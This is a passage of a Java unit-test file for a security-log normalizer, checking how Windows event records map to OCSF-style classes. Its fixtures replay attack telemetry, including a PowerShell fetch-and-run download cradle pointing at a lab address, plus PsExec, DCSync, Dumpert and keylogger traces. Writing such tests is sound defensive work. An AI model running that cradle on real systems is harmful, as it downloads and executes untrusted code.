        assertThat(pipe.at("/file/name").asText()).isEqualTo("\\MSSE-1234-server");
        assertThat(pipe.at("/file/type_id").asInt()).isEqualTo(6);
        assertThat(pipe.at("/actor/process/file/path").asText()).isEqualTo("C:\\Users\\wardog\\beacon.exe");
        assertClass(normalize(evtx(sysmon, 18, """
                {"EventType":"ConnectPipe","ProcessId":"4","PipeName":"\\\\lsass","Image":"System"}""")), 1001, 14, "Open");

        JsonNode raw = normalize(evtx(sysmon, 9, """
                {"ProcessId":"4242","Image":"C:\\\\tools\\\\ninjacopy.exe","Device":"\\\\Device\\\\HarddiskVolume2"}"""));
        assertClass(raw, 1001, 2, "Read");
        assertThat(raw.at("/file/path").asText()).isEqualTo("\\Device\\HarddiskVolume2");
    }

    @Test
    void powerShellScriptBlocksAndPipelinesAreScriptActivity() throws Exception {
        JsonNode block = normalize("""
                {"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-PowerShell"}},"EventID":4104,
                 "TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T20:05:31.123Z"}},
                 "Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"MSEDGEWIN10",
                 "Security":{"#attributes":{"UserID":"S-1-5-21-3461203602-4096304019-2269080069-1000"}}},
                 "EventData":{"MessageNumber":1,"MessageTotal":1,"ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString('http://10.0.2.15/a.ps1')",
                 "ScriptBlockId":"b2a1c1b6-1f51-4a0e-9a26-3a1d0c7d52c6","Path":"C:\\\\Users\\\\IEUser\\\\a.ps1"}}}""");
        assertClass(block, 1009, 1, "Execute");
        assertThat(block.at("/script/script_content").asText()).startsWith("IEX (New-Object Net.WebClient)");
        assertThat(block.at("/script/type_id").asInt()).isEqualTo(2);
        assertThat(block.at("/script/uid").asText()).isEqualTo("b2a1c1b6-1f51-4a0e-9a26-3a1d0c7d52c6");
        assertThat(block.at("/script/file/path").asText()).isEqualTo("C:\\Users\\IEUser\\a.ps1");
        assertThat(block.at("/actor/user/uid").asText()).isEqualTo("S-1-5-21-3461203602-4096304019-2269080069-1000");
        assertThat(block.at("/metadata/log_name").asText()).isEqualTo("Microsoft-Windows-PowerShell/Operational");

        JsonNode flat = normalize("""
                {"Channel":"Microsoft-Windows-PowerShell/Operational","EventID":4104,"Hostname":"WORKSTATION5",
                 "@timestamp":"2026-02-28T06:28:46.317Z","ScriptBlockText":"whoami /groups","ScriptBlockId":"0f6c1d66",
                 "UserID":"S-1-5-21-1549354820-3669603161-4025758380-1104","AccountName":"pgustavo","Domain":"THESHIRE"}""");
        assertClass(flat, 1009, 1, "Execute");
        assertThat(flat.at("/script/script_content").asText()).isEqualTo("whoami /groups");
        assertThat(flat.at("/actor/user/name").asText()).isEqualTo("pgustavo");
        assertThat(flat.at("/actor/user/domain").asText()).isEqualTo("THESHIRE");

        assertClass(normalize("""
                {"Channel":"Microsoft-Windows-PowerShell/Operational","EventID":4103,"Hostname":"WORKSTATION5",
                 "Payload":"CommandInvocation(Get-Process): \\"Get-Process\\"","ContextInfo":"Severity = Informational"}"""), 1009, 1, "Execute");
        JsonNode classic = normalize("""
                {"Channel":"Windows PowerShell","EventID":800,"Hostname":"WORKSTATION5",
                 "Message":"Pipeline execution details for command line: Get-Process"}""");
        assertClass(classic, 1009, 1, "Execute");
        assertThat(classic.at("/script/type").asText()).isEqualTo("PowerShell");
    }

    @Test
    void networkShareAccessIsSmbActivityWithTheShareFileAndClient() throws Exception {
        // OTRF (PsExec over SMB): the share connected, then a file of it checked for access
        JsonNode connected = normalize("""
                {"SubjectUserName":"wardog","TimeCreated":"2020-10-19 03:30:46.625","IpPort":"58391","SubjectLogonId":"0xc61d9",
                 "SubjectDomainName":"WORKSTATION5","ShareLocalPath":null,"ObjectType":"File","EventID":5140,"Channel":"Security",
                 "AccessMask":"0x1","Hostname":"WORKSTATION5","IpAddress":"fe80::90e:17af:263c:5209","ShareName":"\\\\\\\\*\\\\IPC$"}""");
        assertClass(connected, 4006, 99, "Other");
        assertThat(connected.get("category_uid").asInt()).isEqualTo(4);
        assertThat(connected.get("share").asText()).isEqualTo("\\\\*\\IPC$");
        assertThat(connected.at("/src_endpoint/ip").asText()).isEqualTo("fe80::90e:17af:263c:5209");
        assertThat(connected.at("/src_endpoint/port").asInt()).isEqualTo(58391);
        assertThat(connected.at("/actor/user/name").asText()).isEqualTo("wardog");
        assertThat(connected.has("file")).as("no local path given").isFalse();

        JsonNode checked = normalize(evtx("Security", 5145, """
                {"SubjectUserSid":"S-1-5-21-1","SubjectUserName":"admin","SubjectDomainName":"CORP","ObjectType":"File",
                 "IpAddress":"10.0.2.17","IpPort":"49717","ShareName":"\\\\\\\\*\\\\ADMIN$","ShareLocalPath":"\\\\??\\\\C:\\\\Windows",
                 "RelativeTargetName":"PSEXESVC.exe","AccessMask":"0x2","AccessList":"%%4417"}"""));
        assertClass(checked, 4006, 2, "File Open");
        assertThat(checked.at("/file/name").asText()).isEqualTo("PSEXESVC.exe");
        assertThat(checked.get("share").asText()).isEqualTo("\\\\*\\ADMIN$");
        assertThat(checked.at("/src_endpoint/ip").asText()).isEqualTo("10.0.2.17");
        assertThat(checked.at("/dst_endpoint/hostname").asText()).isEqualTo("PC01.example.corp");
        assertThat(checked.at("/unmapped/Event/EventData/AccessMask").asText()).isEqualTo("0x2");
        assertThat(checked.get("app_protocol_name").asText()).isEqualTo("SMB");
    }

    @Test
    void privilegeTokenAndDirectoryEventsReachTheirClasses() throws Exception {
        JsonNode bind = normalize("""
                {"TimeCreated":"2020-10-18 10:56:18.798","FilterRTID":"0","SourcePort":"56628","SourceAddress":"0.0.0.0","EventID":5158,
                 "Channel":"Security","Protocol":"6","Hostname":"WORKSTATION5","ProcessId":"3428","LayerName":"%%14608",
                 "Application":"\\\\device\\\\harddiskvolume2\\\\windows\\\\system32\\\\svchost.exe"}""");
        assertClass(bind, 4001, 99, "Other");
        assertThat(bind.get("action").asText()).isEqualTo("Allowed");
        assertThat(bind.at("/src_endpoint/port").asInt()).isEqualTo(56628);
        assertThat(bind.at("/connection_info/protocol_num").asInt()).isEqualTo(6);
        assertThat(bind.at("/actor/process/pid").asInt()).isEqualTo(3428);
        assertThat(normalize(evtx("Security", 5159, "{\"SourcePort\":\"445\",\"Protocol\":\"6\"}"))
                        .get("action")
                        .asText())
                .isEqualTo("Denied");

        // Outflank-Dumpert enabling SeDebugPrivilege, then duplicating a handle out of the System process
        JsonNode adjusted = normalize("""
                {"SubjectUserName":"wardog","TimeCreated":"2020-10-18 10:56:14.365","SubjectLogonId":"0xc61d9","DisabledPrivilegeList":"-",
                 "TargetLogonId":"0xc61d9","EventID":4703,"Channel":"Security","Hostname":"WORKSTATION5",
                 "ProcessName":"C:\\\\Users\\\\wardog\\\\Desktop\\\\Outflank-Dumpert.exe","ProcessId":"0x1a74","TargetUserSid":"S-1-0-0",
                 "TargetDomainName":"WORKSTATION5","EnabledPrivilegeList":"SeDebugPrivilege","TargetUserName":"wardog"}""");
        assertClass(adjusted, 3003, 1, "Assign Privileges");
        assertThat(adjusted.at("/privileges/0").asText()).isEqualTo("SeDebugPrivilege");
        assertThat(adjusted.at("/user/name").asText()).isEqualTo("wardog");
        assertThat(adjusted.at("/actor/process/pid").asInt()).isEqualTo(0x1a74);
        JsonNode disabled = normalize(evtx("Security", 4703, """
                {"TargetUserName":"svc","EnabledPrivilegeList":"-","DisabledPrivilegeList":"SeBackupPrivilege\\r\\n\\t\\t\\tSeRestorePrivilege"}"""));
        assertClass(disabled, 3003, 99, "Other");
        assertThat(disabled.at("/privileges/1").asText()).isEqualTo("SeRestorePrivilege");
        JsonNode duplicated = normalize("""
                {"SubjectUserName":"wardog","EventID":4690,"Channel":"Security","TargetProcessId":"0x4","SourceProcessId":"0x1a74",
                 "SourceHandleId":"0x108","TargetHandleId":"0x3794","Hostname":"WORKSTATION5"}""");
        assertClass(duplicated, 1007, 99, "Other");
        assertThat(duplicated.at("/process/pid").asInt()).isEqualTo(4);
        assertThat(duplicated.at("/actor/process/pid").asInt()).isEqualTo(0x1a74);
        JsonNode called = normalize(evtx("Security", 4673, """
                {"SubjectUserName":"wardog","PrivilegeList":"SeCreateGlobalPrivilege","ProcessName":"C:\\\\Windows\\\\System32\\\\esentutl.exe",
                 "ProcessId":"0x1410","Service":"-"}"""));
        assertClass(called, 3003, 99, "Other");
        assertThat(called.at("/privileges/0").asText()).isEqualTo("SeCreateGlobalPrivilege");
        assertClass(
                normalize(evtx("Security", 4627, "{\"TargetUserName\":\"WEC$\",\"TargetLogonId\":\"0x824281\"}")),
                3003,
                2,
                "Assign Groups");

        // DCSync: a replication right used on the domain object
        JsonNode replicated = normalize("""
                {"SubjectUserName":"pgustavo","ObjectType":"%{19195a5b-6da0-11d0-afd3-00c04fd930c9}","ObjectName":"%{3933c65d-ac7f-4c79-b5b7-ad0fb941333c}",
                 "Channel":"Security","ObjectServer":"DS","EventID":4662,"OperationType":"Object Access","AccessMask":"0x100",
                 "Properties":"%%7688 {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}","Hostname":"MORDORDC.theshire.local"}""");
        assertClass(replicated, 3004, 99, "Other");
        assertThat(replicated.at("/entity/uid").asText()).isEqualTo("%{3933c65d-ac7f-4c79-b5b7-ad0fb941333c}");
        assertThat(replicated.at("/access_mask").asInt()).isEqualTo(0x100);
        assertThat(replicated.at("/unmapped/Properties").asText()).contains("1131f6aa-9c07-11d1-f79f-00c04fc2dcd2");
        JsonNode modified = normalize(evtx("Security", 5136, """
                {"SubjectUserName":"admin","ObjectDN":"CN=Domain Admins,CN=Users,DC=corp,DC=local","ObjectGUID":"{a6b2}",
                 "ObjectClass":"group","AttributeLDAPDisplayName":"member","OperationType":"%%14674"}"""));
        assertClass(modified, 3004, 3, "Update");
        assertThat(modified.at("/entity/name").asText()).isEqualTo("CN=Domain Admins,CN=Users,DC=corp,DC=local");
        assertThat(modified.at("/entity/type").asText()).isEqualTo("group");
        assertClass(normalize(evtx("Security", 5141, "{\"ObjectDN\":\"CN=x\"}")), 3004, 4, "Delete");

        JsonNode permissions = normalize(evtx("Security", 4670, """
                {"ObjectType":"File","ObjectName":"C:\\\\secret.txt","ProcessName":"C:\\\\Windows\\\\System32\\\\icacls.exe","ProcessId":"0x10"}"""));
        assertClass(permissions, 1001, 7, "Set Security");
        assertThat(permissions.at("/file/path").asText()).isEqualTo("C:\\secret.txt");
        // permissions of a token are no file or key: Entity Management Update of the token
        assertClass(normalize(evtx("Security", 4670, "{\"ObjectType\":\"Token\"}")), 3004, 3, "Update");
    }

    @Test
    void remoteDesktopLogonsAndConnectionsAreAuthenticationAndRdpActivity() throws Exception {
        // evtx-attack-samples (RDP tunnelling): UserData.EventXML in the evtx-dump shape
        JsonNode nla = normalize("""
                {"Event":{"System":{"EventID":1149,"TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T21:45:50.411264Z"}},
                 "Channel":"Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational","Computer":"IEWIN7"},
                 "UserData":{"EventXML":{"#attributes":{"xmlns":"Event_NS"},"Param1":"administrator","Param2":"ie11win7","Param3":"10.0.2.16"}}}}""");
        assertClass(nla, 3002, 1, "Logon");
        assertThat(nla.at("/user/name").asText()).isEqualTo("administrator");
        assertThat(nla.at("/user/domain").asText()).isEqualTo("ie11win7");
        assertThat(nla.at("/src_endpoint/ip").asText()).isEqualTo("10.0.2.16");
        assertThat(nla.at("/dst_endpoint/hostname").asText()).isEqualTo("IEWIN7");
        assertThat(nla.get("status_id").asInt()).isEqualTo(1);
        assertThat(nla.get("is_remote").asBoolean()).isTrue();
        assertThat(nla.get("time").asLong())
                .isEqualTo(Instant.parse("2026-02-28T21:45:50.411264Z").toEpochMilli());

        // Winlogbeat keeps UserData under winlog.user_data
        JsonNode beat = normalize("""
                {"@timestamp":"2026-02-28T10:00:00Z","winlog":{"channel":"Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
                 "event_id":21,"computer_name":"TS01","user_data":{"User":"CORP\\\\jdoe","SessionID":"3","Address":"192.0.2.44"}}}""");
        assertClass(beat, 3002, 1, "Logon");
        assertThat(beat.at("/user/name").asText()).isEqualTo("CORP\\jdoe");
        assertThat(beat.at("/src_endpoint/ip").asText()).isEqualTo("192.0.2.44");
        assertThat(beat.at("/logon_type_id").asInt()).isEqualTo(10);
        assertThat(beat.at("/session/uid").asText()).isEqualTo("3");
        // a console logon says LOCAL: no address, not remote
        JsonNode console = normalize("""
                {"Channel":"Microsoft-Windows-TerminalServices-LocalSessionManager/Operational","EventID":21,"Hostname":"TS01",
                 "User":"CORP\\\\jdoe","SessionID":"1","Address":"LOCAL"}""");
        assertClass(console, 3002, 1, "Logon");
        assertThat(console.has("src_endpoint")).isFalse();
        assertThat(console.has("is_remote")).isFalse();
        assertClass(normalize("""
                {"Channel":"Microsoft-Windows-TerminalServices-LocalSessionManager/Operational","EventID":23,"User":"CORP\\\\jdoe","SessionID":"3"}"""), 3002, 2, "Logoff");
        JsonNode reconnected = normalize("""
                {"Channel":"Microsoft-Windows-TerminalServices-LocalSessionManager/Operational","EventID":25,"User":"CORP\\\\jdoe",
                 "SessionID":"3","Address":"2001:db8::7"}""");
        assertClass(reconnected, 4005, 8, "Reconnect");
        assertThat(reconnected.at("/src_endpoint/ip").asText()).isEqualTo("2001:db8::7");
        assertClass(normalize("""
                {"Channel":"Microsoft-Windows-TerminalServices-LocalSessionManager/Operational","EventID":24,"User":"CORP\\\\jdoe","Address":"LOCAL"}"""), 4005, 7, "Disconnect");

        // the server accepting a TCP connection: address and port come as one text
        JsonNode accepted = normalize(evtx(
                "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational",
                131,
                "{\"ConnType\":\"TCP\",\"ClientIP\":\"10.0.2.16:52202\"}"));
        assertClass(accepted, 4005, 3, "Connect Request");
        assertThat(accepted.at("/src_endpoint/ip").asText()).isEqualTo("10.0.2.16");
        assertThat(accepted.at("/src_endpoint/port").asInt()).isEqualTo(52202);
        JsonNode accepted6 = normalize(evtx(
                "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational",
                131,
                "{\"ConnType\":\"TCP\",\"ClientIP\":\"[fe80::1c2:3]:50100\"}"));
        assertThat(accepted6.at("/src_endpoint/ip").asText()).isEqualTo("fe80::1c2:3");
        assertThat(accepted6.at("/src_endpoint/port").asInt()).isEqualTo(50100);

        JsonNode outbound = normalize(evtx(
                "Microsoft-Windows-TerminalServices-RDPClient/Operational",
                1024,
                "{\"Name\":\"Server Name\",\"Value\":\"fileserver01\"}"));
        assertClass(outbound, 4005, 1, "Initial Request");
        assertThat(outbound.at("/dst_endpoint/hostname").asText()).isEqualTo("fileserver01");
        assertThat(outbound.at("/src_endpoint/hostname").asText()).isEqualTo("PC01.example.corp");
        // the listener starting, another event id of its channel, is the service's state: a Base Event
        assertThat(normalize(evtx(
                                "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational",
                                258,
                                "{\"listenerName\":\"RDP-Tcp\"}"))
                        .get("class_uid")
                        .asInt())
                .isZero();
    }

    @Test
    void defenderDetectionsAreDetectionFindingsWithTheThreatAndItsSeverity() throws Exception {
        // evtx-attack-samples (Atomic Red Team under Defender): a detection, then the action taken on it
        String detection = """
                {"Event":{"System":{"EventID":%d,"TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T20:40:01.123Z"}},
                 "Channel":"Microsoft-Windows-Windows Defender/Operational","Computer":"MSEDGEWIN10"},
                 "EventData":{"Product Name":"%%%%827","Product Version":"4.18.1906.3","Detection ID":"{511224D4-1EB4-47B9-BC4A-37E21F923FED}",
                  "Detection Time":"2026-02-28T20:40:00.580Z","Threat ID":2147725349,"Threat Name":"Trojan:PowerShell/Powersploit.M",
                  "Severity ID":%d,"Severity Name":"Severe","Category ID":8,"Category Name":"Trojan",
                  "FWLink":"https://go.microsoft.com/fwlink/?linkid=37020&name=Trojan:PowerShell/Powersploit.M&threatid=2147725349",
                  "Status Code":1,"State":1,"Process Name":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
                  "Detection User":"MSEDGEWIN10\\\\IEUser","Path":"file:_C:\\\\AtomicRedTeam\\\\Get-Keystrokes.ps1"}}}""";
        JsonNode detected = normalize(detection.formatted(1116, 5));
        assertClass(detected, 2004, 1, "Create");
        assertThat(detected.get("category_uid").asInt()).isEqualTo(2);
        assertThat(detected.get("severity_id").asInt()).isEqualTo(5);
        assertThat(detected.at("/finding_info/title").asText()).isEqualTo("Trojan:PowerShell/Powersploit.M");
        assertThat(detected.at("/finding_info/uid").asText()).isEqualTo("{511224D4-1EB4-47B9-BC4A-37E21F923FED}");
        assertThat(detected.at("/finding_info/desc").asText()).isEqualTo("Trojan");
        assertThat(detected.at("/finding_info/types/0").asText()).isEqualTo("Trojan");
        assertThat(detected.get("malware")).hasSize(1);
        assertThat(detected.at("/malware/0/name").asText()).isEqualTo("Trojan:PowerShell/Powersploit.M");
        assertThat(detected.at("/malware/0/uid").asText()).isEqualTo("2147725349");
        assertThat(detected.at("/malware/0/path").asText()).isEqualTo("file:_C:\\AtomicRedTeam\\Get-Keystrokes.ps1");
        assertThat(detected.at("/actor/process/file/path").asText())
                .isEqualTo("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
        assertThat(detected.at("/actor/user/name").asText()).isEqualTo("MSEDGEWIN10\\IEUser");
        assertThat(detected.at("/device/hostname").asText()).isEqualTo("MSEDGEWIN10");
        assertClass(normalize(detection.formatted(1117, 5)), 2004, 2, "Update");
        // Defender's severities: Low 1, Moderate 2, High 4, Severe 5
        assertThat(normalize(detection.formatted(1116, 4)).get("severity_id").asInt())
                .isEqualTo(4);
        assertThat(normalize(detection.formatted(1116, 2)).get("severity_id").asInt())
                .isEqualTo(3);
        assertThat(normalize(detection.formatted(1116, 1)).get("severity_id").asInt())
                .isEqualTo(2);
        JsonNode failed = normalize(detection.formatted(1118, 5));
        assertClass(failed, 2004, 2, "Update");
        assertThat(failed.get("comment").asText()).contains("failed");
        // a Defender event that is no detection (a scan started) stays a Base Event
        assertThat(normalize(evtx(
                                "Microsoft-Windows-Windows Defender/Operational",
                                1000,
                                "{\"Scan Type\":\"Antimalware\"}"))
                        .get("class_uid")
                        .asInt())
                .isZero();
    }

    @Test
    void serviceStateChangesAreWindowsServiceActivity() throws Exception {
        JsonNode stopped = normalize(
                evtx("System", 7036, "{\"param1\":\"Windows Defender Antivirus Service\",\"param2\":\"stopped\"}"));
        assertClass(stopped, 201004, 4, "Stop");
        assertThat(stopped.at("/win_service/name").asText()).isEqualTo("Windows Defender Antivirus Service");
        assertClass(
                normalize(
                        "{\"Channel\":\"System\",\"EventID\":7036,\"param1\":\"Windows Update\",\"param2\":\"running\"}"),
                201004,
                3,
                "Start");
        // a state written in another language is not guessed
        assertClass(
                normalize(
                        "{\"Channel\":\"System\",\"EventID\":7036,\"param1\":\"Windows Update\",\"param2\":\"wird ausgef\u00fchrt\"}"),
                201004,
                99,
                "Other");
        JsonNode disabled = normalize(evtx("System", 7040, """
                {"param1":"Windows Defender Firewall","param2":"auto start","param3":"disabled","param4":"mpssvc"}"""));
        assertClass(disabled, 201004, 2, "Reconfigure");
        assertThat(disabled.at("/win_service/name").asText()).isEqualTo("mpssvc");
        assertThat(disabled.at("/win_service/service_start_type").asText()).isEqualTo("disabled");
        assertClass(
                normalize(evtx("System", 7034, "{\"param1\":\"Print Spooler\",\"param2\":\"1\"}")), 201004, 4, "Stop");
    }

    @Test
    void defenderProtectionTurnedOffOrOnAndItsConfigurationChangedAreDeviceConfigStateChanges() throws Exception {
        String defender = "Microsoft-Windows-Windows Defender/Operational";
        for (int id : List.of(5001, 5010, 5012)) {
            JsonNode off = normalize(evtx(
                    defender,
                    id,
                    "{\"Product Name\":\"Microsoft Defender Antivirus\",\"Product Version\":\"4.18.2\"}"));
            assertClass(off, 5019, 1, "Log");
            assertThat(off.get("state_id").asInt()).as("Disabled").isEqualTo(1);
            assertThat(off.at("/security_states/0/state_id").asInt())
                    .as("Protection off")
                    .isEqualTo(4);
            assertThat(off.get("severity_id").asInt()).isEqualTo(4);
            assertThat(off.at("/device/hostname").asText()).isEqualTo("PC01.example.corp");
        }
        JsonNode on = normalize("{\"Channel\":\"" + defender + "\",\"EventID\":5000,\"Hostname\":\"PC01\"}");
        assertClass(on, 5019, 1, "Log");
        assertThat(on.get("state_id").asInt()).as("Enabled").isEqualTo(2);
        assertThat(on.has("security_states")).isFalse();
        JsonNode changed = normalize(evtx(defender, 5007, """
                {"Old Value":"","New Value":"HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows Defender\\\\Exclusions\\\\Paths\\\\C:\\\\Users\\\\Public = 0x0"}"""));
        assertClass(changed, 5019, 1, "Log");
        assertThat(changed.get("state_id").asInt()).isEqualTo(99);
        assertThat(changed.at("/unmapped/Event/EventData/New Value").asText()).contains("Exclusions\\Paths");
    }

    @Test
    void appLockerBlockedAuditedAndAllowedProgramsAreProcessLaunchesWithTheirOutcomeRuleAndUser() throws Exception {
        String userData = """
                {"RuleAndFileData":{"PolicyName":"EXE","RuleId":"{519e1be7-3ebe-4679-b282-94b611c4b06f}",
                 "RuleName":"(Default Rule) All files located in the Program Files folder","TargetUser":"S-1-5-21-1004-1146",
                 "TargetProcessId":4711,"FilePath":"%OSDRIVE%\\\\USERS\\\\BOB\\\\DOWNLOADS\\\\RCLONE.EXE",
                 "FullFilePath":"C:\\\\Users\\\\bob\\\\Downloads\\\\rclone.exe","TargetLogonId":"0x35718c"}}""";
        String evtx = """
                {"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-AppLocker"}},"EventID":%d,
                 "TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T23:35:07.524202Z"}},"Channel":"%s",
                 "Computer":"PC01.example.corp"},"UserData":%s}}""";
        // evtx dump: the file, rule and user are in UserData, not EventData
        JsonNode blocked = normalize(evtx.formatted(8004, "Microsoft-Windows-AppLocker/EXE and DLL", userData));
        assertClass(blocked, 1007, 1, "Launch");
        assertThat(blocked.get("action").asText()).isEqualTo("Denied");
        assertThat(blocked.get("disposition").asText()).isEqualTo("Blocked");
        assertThat(blocked.at("/process/file/path").asText()).isEqualTo("C:\\Users\\bob\\Downloads\\rclone.exe");
        assertThat(blocked.at("/actor/user/uid").asText()).isEqualTo("S-1-5-21-1004-1146");
        assertThat(blocked.at("/policy/name").asText()).startsWith("(Default Rule) All files");
        assertThat(blocked.at("/policy/uid").asText()).isEqualTo("{519e1be7-3ebe-4679-b282-94b611c4b06f}");
        assertThat(blocked.at("/device/hostname").asText()).isEqualTo("PC01.example.corp");
        JsonNode script = normalize(evtx.formatted(8007, "Microsoft-Windows-AppLocker/MSI and Script", userData));
        assertThat(script.get("disposition").asText()).isEqualTo("Blocked");
        JsonNode audited = normalize(evtx.formatted(8003, "Microsoft-Windows-AppLocker/EXE and DLL", userData));
        assertClass(audited, 1007, 1, "Launch");
        assertThat(audited.get("action").asText()).isEqualTo("Allowed");
        assertThat(audited.get("disposition").asText()).as("audit mode: it ran").isEqualTo("Detected");
        JsonNode allowed = normalize(evtx.formatted(8002, "Microsoft-Windows-AppLocker/EXE and DLL", userData));
        assertThat(allowed.get("disposition").asText()).isEqualTo("Allowed");
        // the same event id in another channel is not AppLocker's
        assertThat(normalize(evtx.formatted(8004, "Application", userData))
                        .get("class_uid")
                        .asInt())
                .isNotEqualTo(1007);
        // Wazuh: the UserData section beside system (packaged apps name the package, not a file path)
        JsonNode packaged = normalize("""
                {"win":{"system":{"eventID":"8022","channel":"Microsoft-Windows-AppLocker/Packaged app-Execution",
                  "computer":"hrmanager.example.com","systemTime":"2022-08-16T18:39:16.1843343Z"},
                 "ruleAndFileData":{"targetProcessId":"5788","policyName":"Appx",
                  "package":"C:\\\\Program Files\\\\WindowsApps\\\\5319275A.WhatsAppDesktop_2.2228.14.0_x64__cv1g1gvanyjgm\\\\app\\\\WhatsApp.exe",
                  "ruleName":"5319275A.WhatsAppDesktop, from WhatsApp Inc.","targetUser":"S-1-5-21-1004-1146"}}}""");
        assertClass(packaged, 1007, 1, "Launch");
        assertThat(packaged.get("disposition").asText()).isEqualTo("Blocked");
        assertThat(packaged.at("/process/file/path").asText()).endsWith("\\app\\WhatsApp.exe");
        assertThat(packaged.at("/policy/name").asText()).isEqualTo("5319275A.WhatsAppDesktop, from WhatsApp Inc.");
        assertThat(packaged.at("/device/hostname").asText()).isEqualTo("hrmanager.example.com");
    }

    @Test
    void remoteDesktopSessionsReconnectedAndDisconnectedAreLogonsAndLogoffsWithTheClient() throws Exception {
        String session = """
                {"AccountName":"bob","AccountDomain":"CORP","LogonID":"0xa197f3","SessionName":"RDP-Tcp#9",
                 "ClientName":"LAPTOP-7","ClientAddress":"192.0.2.15"}""";
        JsonNode reconnected = normalize(evtx("Security", 4778, session));
        assertClass(reconnected, 3002, 1, "Logon");
        assertThat(reconnected.at("/user/name").asText()).isEqualTo("bob");
        assertThat(reconnected.at("/user/domain").asText()).isEqualTo("CORP");
        assertThat(reconnected.at("/src_endpoint/ip").asText()).isEqualTo("192.0.2.15");
        assertThat(reconnected.at("/src_endpoint/hostname").asText()).isEqualTo("LAPTOP-7");
        assertThat(reconnected.at("/session/uid").asText()).isEqualTo("0xa197f3");
        assertThat(reconnected.at("/service/name").asText()).isEqualTo("RDP-Tcp#9");
        JsonNode disconnected = normalize(evtx("Security", 4779, session));
        assertClass(disconnected, 3002, 2, "Logoff");
        assertThat(disconnected.at("/src_endpoint/ip").asText()).isEqualTo("192.0.2.15");
    }

    @Test
    void productsWindowsInstallerInstallsAndRemovesAreApplicationLifecycle() throws Exception {
        JsonNode installed = normalize("""
                {"Channel":"Application","EventID":1033,"SourceName":"MsiInstaller","Hostname":"PC01",
                 "Message":"Windows Installer installed the product. Product Name: AnyDesk. Product Version: 8.0.9. Product Language: 1033. Manufacturer: AnyDesk Software GmbH. Installation success or error status: 0."}""");
        assertClass(installed, 6002, 1, "Install");
        assertThat(installed.at("/app/name").asText()).isEqualTo("AnyDesk");
        assertThat(installed.at("/app/version").asText()).isEqualTo("8.0.9");
        assertThat(installed.at("/app/vendor_name").asText()).isEqualTo("AnyDesk Software GmbH");
        assertThat(installed.get("status_id").asInt()).isEqualTo(1);

        JsonNode removed = normalize(evtx("Application", 1034, """
                {"Data":{"#text":"<string>7-Zip 23.01 (x64 edition)</string>\\n<string>23.01.00.0</string>\\n<string>1033</string>\\n<string>0</string>\\n<string>Igor Pavlov</string>\\n<string>(NULL)</string>"}}"""));
        assertClass(removed, 6002, 2, "Remove");
        assertThat(removed.at("/app/name").asText()).isEqualTo("7-Zip 23.01 (x64 edition)");
        assertThat(removed.at("/app/vendor_name").asText()).isEqualTo("Igor Pavlov");

        JsonNode done = normalize(
                evtx(
                        "Application",
                        11707,
                        "{\"Data\":{\"#text\":\"<string>Product: Google Chrome -- Installation completed successfully.</string>\\n<string>(NULL)</string>\"}}"));
        assertClass(done, 6002, 1, "Install");
        assertThat(done.at("/app/name").asText()).isEqualTo("Google Chrome");
        assertThat(done.get("status_id").asInt()).isEqualTo(1);
        JsonNode failed = normalize("""
                {"Channel":"Application","EventID":11708,"Message":"Product: Remote Utilities - Host -- Installation failed."}""");
        assertClass(failed, 6002, 1, "Install");
        assertThat(failed.at("/app/name").asText()).isEqualTo("Remote Utilities - Host");
        assertThat(failed.get("status_id").asInt()).isEqualTo(2);
        // a transaction begun (1040) names no product installed
        assertThat(normalize(evtx("Application", 1040, "{\"Data\":{\"#text\":\"<string>C:\\\\a.msi</string>\"}}"))
                        .get("class_uid")
                        .asInt())
                .isZero();
    }

    @Test
    void anExternalDeviceRecognizedIsAPeripheralConnected() throws Exception {
        JsonNode r = normalize(evtx("Security", 6416, """
                {"SubjectUserName":"PC01$","DeviceId":"SWD\\\\WPDBUSENUM\\\\_??_USBSTOR#DISK&VEN_SANDISK&PROD_CRUZER",
                 "DeviceDescription":"Cruzer Blade","ClassId":"{eec5ad98-8080-425f-922a-dabf3de3f69a}","ClassName":"WPD",
                 "VendorIds":"USB\\\\VID_0781&PID_5567","CompatibleIds":"wpdbusenum\\\\fs","LocationInformation":"Port_#0001.Hub_#0002"}"""));

        assertClass(r, 1010, 1, "Connect");
        assertThat(r.at("/peripheral_device/name").asText()).isEqualTo("Cruzer Blade");
        assertThat(r.at("/peripheral_device/class").asText()).isEqualTo("WPD");
        assertThat(r.at("/peripheral_device/uid").asText()).startsWith("SWD\\WPDBUSENUM");
        assertThat(r.at("/peripheral_device/vendor_id_list/0").asText()).isEqualTo("USB\\VID_0781&PID_5567");
        assertThat(r.at("/device/hostname").asText()).isEqualTo("PC01.example.corp");
    }

    @Test
    void sqlServerLoginsAreAuthenticationsWithTheLoginReasonAndClientInEveryShape() throws Exception {
        // evtx_dump: the classic event's unnamed data strings (the corpus's MSSQL samples)
        JsonNode evtx = normalize("""
                {"Event":{"System":{"Provider":{"#attributes":{"Name":"MSSQLSERVER"}},"EventID":18456,
                 "TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T23:35:07.524202Z"}},"Channel":"Application",
                 "Computer":"SQL01.example.corp"},"EventData":{"Binary":"GEgAAA4AAAAMAAAA","Data":{"#text":
                 "<string>sa</string>\\n<string> Reason: Password did not match that for the login provided.</string>\\n<string> [CLIENT: 10.0.2.17]</string>"}}}}""");
        // NXLog (Message) and Winlogbeat (message): the rendered text
        JsonNode nxlog = normalize("""
                {"EventTime":"2026-02-28 23:35:07","Hostname":"SQL01","SourceName":"MSSQLSERVER","Channel":"Application","EventID":18456,
